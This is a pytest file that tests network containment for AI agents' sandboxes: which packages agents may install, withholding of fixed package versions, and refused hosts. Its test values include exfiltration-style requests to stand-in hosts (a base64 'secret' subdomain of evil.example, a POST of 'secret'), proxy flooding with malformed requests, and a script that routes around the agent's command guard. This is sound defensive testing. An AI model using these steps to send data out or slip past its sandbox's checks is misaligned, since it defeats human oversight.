"""Agents' sandboxes with a filtered network: what they install and read, and that there is no other way out."""

import dataclasses
import os
import shutil

import pytest

from qcn_jax.agents.episode import Episode
from qcn_jax.agents.guard import Guard, rules_for
from qcn_jax.agents.interop import SandboxEnvironment
from qcn_jax.agents.scaffolds.mini_swe_agent import MINI_SWE_AGENT
from qcn_jax.agents.workspace import SandboxWorkspace
from qcn_jax.chat.rendering import ToolCall
from qcn_jax.envs.network.policy import fix_date
from qcn_jax.envs.pool.env_pool import EnvPool
from qcn_jax.envs.sandbox import RepositorySpec
from qcn_jax.envs.sandbox.base import sandbox
from qcn_jax.envs.sandbox.local import LocalProvider
from qcn_jax.errors import UserError
from tests.envs.network.local_index import FIX, outside
from tests.sandboxes import LIMITS, make_provider, make_task, write_repository

NAME = "victim==1.2.3"
LIMIT = 120.0  # seconds of a command; pip on a busy machine
FETCH = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=60).read().decode())"


@pytest.fixture(scope="module", name="index")
def _index(tmp_path_factory):
    with pytest.MonkeyPatch.context() as environment, outside(tmp_path_factory.mktemp("outside"), environment) as server:
        yield server


@pytest.fixture(scope="module", name="provider", params=["local", pytest.param("docker", marks=pytest.mark.docker)])
def _provider(request, index, tmp_path_factory):
    folder = tmp_path_factory.mktemp(f"filtered-{request.param}")
    limits = dataclasses.replace(LIMITS, memory_mb=1024)  # node reserves more than it uses
    with make_provider(request.param, folder / "state", limits=limits, network="filtered") as made:
        made.prepare(RepositorySpec(NAME, str(write_repository(folder / "victim"))))
        yield made


@pytest.fixture(name="agent")
def _agent(provider):
    with provider.create(NAME, before=FIX) as place:
        yield place


def run(place, command):
    """Output and what was counted of a command."""
    result = place.exec(command, LIMIT)
    return result.output, dict(result.network)


def fetch(place, url):
    """What a client gets that goes through the proxy, and what was counted."""
    return run(place, f"python -c '{FETCH}' '{url}' 2>&1 | tail -1")


def test_pip_installs_what_is_allowed(agent, provider, index):
    assert "package indexes" in provider.describe()
    output, counted = run(agent, "pip install -q helper && python -c 'import helper; print(helper.VERSION)'")
    assert output == "1.0\n" and counted == {"served": 2}
    assert agent.changes() == {}  # outside the repository
    # The version before the fix is there, the fixed one and the next are not.
    output, counted = run(agent, "pip download -q --no-deps -d out victim && ls out && rm -r out; pip download -q victim==1.2.3")
    assert output.startswith("victim-1.2.2-py3-none-any.whl\n") and "No matching distribution" in output
    output, counted = fetch(agent, "http://127.0.0.1:3128/pypi/files/victim/victim-1.2.3-py3-none-any.whl")
    assert "403" in output and counted == {"refused/withheld": 1}
    assert not [path for path in index.seen if "1.2.3" in path or "1.3.0" in path]


def test_what_is_installed_stays_with_its_workspace(agent, provider):
    with provider.create(NAME) as other:  # on the same server; no date is known: nothing of the package is served
        run(agent, "pip install -q helper")
        assert "No module named 'helper'" in run(other, "python -c 'import helper' 2>&1 | tail -1")[0]
        output, counted = run(other, "pip download -q victim==1.2.2")
        assert "No matching distribution" in output and counted["refused/withheld"] > 0
    assert "site-packages/helper.py" in agent.run_python("def main(args):\n    import helper\n    return helper.__file__").value


def test_npm_installs_what_is_allowed(agent, provider):
    if provider.kind != "local" or shutil.which("npm") is None:
        pytest.skip("no npm in the sandbox")
    output, counted = run(agent, "cd $HOME && npm install --no-progress helper victim 2>&1 && cat node_modules/*/index.js; "
                                 "npm install victim@1.2.3 2>&1 | head -3")
    assert "'1.0'" in output and "'1.2.2'" in output and "No matching version" in output and counted["served"] >= 4


def test_documentation_is_read_by_https_outside(agent, index):
    assert fetch(agent, "http://docs.python.org/3/library/re.html") == ("<p>re</p>\n", {"served": 1})
    assert index.tunnel.seen[-2:] == ["docs.python.org:443", "/3/library/re.html"]
    output, counted = fetch(agent, "http://docs.python.org/moved")  # to a repository
    assert "403" in output and counted == {"served": 1, "refused/repository_host": 1}


@pytest.mark.parametrize("url, rule", [
    ("http://github.com/a/victim", "repository_host"), ("https://github.com/a/victim", "repository_host"),
    ("https://codeload.github.com/a", "repository_host"), ("http://raw.githubusercontent.com/a", "repository_host"),
    ("http://1.1.1.1/", "address"), ("https://1.1.1.1/", "address"), ("http://c2VjcmV0.evil.example/", "other_host"),
    ("https://docs.python.org/3/", "tunnel"), ("http://victim.readthedocs.io/", "withheld")])
def test_refused_hosts(agent, index, url, rule):
    before = len(index.tunnel.seen)
    output, counted = fetch(agent, url)
    assert "403" in output and counted == {f"refused/{rule}": 1} and len(index.tunnel.seen) == before


def test_nothing_is_sent_out_and_nothing_else_leads_out(agent, index):
    port = index.server_address[1]
    program = f"""
import os, socket
def tried(what, *arguments):
    try:
        return what(*arguments)
    except OSError as error:
        return type(error).__name__
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(tried(socket.create_connection, ("127.0.0.1", {port}), 5), tried(socket.create_connection, ("1.1.1.1", 80), 5),
      tried(udp.sendto, b"x", ("1.1.1.1", 53)), tried(socket.getaddrinfo, "secret.evil.example", 80),
      tried(os.listdir, "/run/qcn"))
"""
    agent.write("tried.py", program)
    output, counted = run(agent, "python tried.py")
    assert output.split()[1:3] == ["OSError", "OSError"] and output.split()[0] == "ConnectionRefusedError" and not counted
    assert output.split()[3] == "gaierror" and output.split()[4] in ("FileNotFoundError", "PermissionError")
    sent = "import urllib.request as u; u.urlopen('http://127.0.0.1:3128/pypi/simple/helper/', b'secret')"
    output, counted = run(agent, f'python -c "{sent}" 2>&1 | tail -1')
    assert "403" in output and counted == {"refused/method": 1}


def test_only_agents_commands_have_it(agent, provider):
    """Tests in an agent's sandbox are answered nothing, and a grading sandbox has nobody to ask."""
    ask = "def main(url):\n    import urllib.request as u\n    try:\n        return u.urlopen(url).read().decode()\n" \
          "    except Exception as error:\n        return str(error)\n"
    url = "http://127.0.0.1:3128/pypi/simple/helper/"
    assert "403" in agent.run_python(ask, url, LIMIT).value
    with sandbox(provider, NAME, role="grading", before=FIX) as place:
        assert "refused" in place.run_python(ask, url, LIMIT).value
        output, counted = run(place, f"python -c '{FETCH}' {url} 2>&1 | tail -1; env | grep -i -e proxy -e pip_; ls /run/qcn")
        assert "Connection refused" in output and not counted and "3128" not in output and "door" not in output


def test_many_connections_take_turns_and_the_gate_outlives_them(agent):
    program = """
import socket
held = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(150)]
held[3].sendall(b"GET /" + b"x" * 100_000 + b" HTTP/1.1\\r\\n\\r\\n")
held[4].sendall(b"\\0" * 5000 + b"\\r\\n\\r\\n")
held[5].sendall(b"GET /pypi/simple/helper/ HTTP/1.1\\r\\nContent-Length: -5\\r\\n\\r\\n")
print("held")
"""
    agent.write("held.py", program)
    assert run(agent, "python held.py")[0] == "held\n"
    output, counted = fetch(agent, "http://127.0.0.1:3128/pypi/simple/helper/")
    assert "helper-1.0" in output and counted == {"served": 1}


def test_requests_are_counted_in_the_episode(provider):
    if provider.kind != "local":
        pytest.skip("nothing of it depends on the back end")
    task = make_task()
    with provider.create(NAME, before=fix_date(task)) as place:
        guard = Guard(rules_for(provider.network))
        executor = MINI_SWE_AGENT.executor(task, SandboxWorkspace(place))
        episode = Episode(task, MINI_SWE_AGENT, executor, guard=guard)
        turns = ["pip install -q helper", "pip install -q victim==1.3.0", "git --no-pager fetch https://github.com/a/victim"]
        for command in turns:
            episode.step(MINI_SWE_AGENT.render("", [ToolCall("bash", {"command": command})]))
        assert guard.counts["network/served"] == 2 and guard.counts["network/refused/withheld"] > 0
        assert guard.counts["blocked"] == guard.counts["blocked/repository_link"] == 1
        place.write("ask.py", FETCH.replace("sys.argv[1]", "'http://github.com/a'"))  # which the guard does not see
        SandboxEnvironment(place, guard).execute({"command": "python ask.py"})
        assert guard.counts["network/refused/repository_host"] == 1


def test_sessions_of_a_pool_have_it(provider):
    if provider.kind != "local":
        pytest.skip("nothing of it depends on the back end")
    spec = provider.prepared[NAME].spec
    arguments = {"kind": "local", "state_dir": provider.state_dir, "network": "filtered"}
    with EnvPool(1, arguments, [spec]) as pool, pool.open_session(NAME, {}, FIX) as session:
        ran = session.exec(f"python -c '{FETCH}' http://127.0.0.1:3128/pypi/simple/victim/", LIMIT).result()
        assert "victim-1.2.2" in ran.output and "victim-1.2.3" not in ran.output


def test_where_there_is_no_namespace_it_is_refused_in_one_line(tmp_path):
    with pytest.raises(UserError, match=r"--config.network=filtered: needs docker, or namespaces"):
        LocalProvider(str(tmp_path), containment="filters", network="filtered")
    with pytest.raises(UserError, match=r"--config.network: expected none or filtered, got 'open'"):
        LocalProvider(str(tmp_path), network="open")


def test_nothing_is_left(index, tmp_path):
    """A sandbox of its own: its gate ends with it, and the descriptors with that."""
    count = lambda: len(os.listdir("/proc/self/fd"))
    with make_provider("local", tmp_path / "state", isolation="container", network="filtered") as made:
        made.prepare(RepositorySpec(NAME, str(write_repository(tmp_path / "victim"))))
        open_now = []
        for _ in range(3):
            with made.create(NAME) as place:
                assert "helper-1.0" in fetch(place, "http://127.0.0.1:3128/pypi/simple/helper/")[0]
            open_now.append(count())
        assert open_now[0] == open_now[-1]
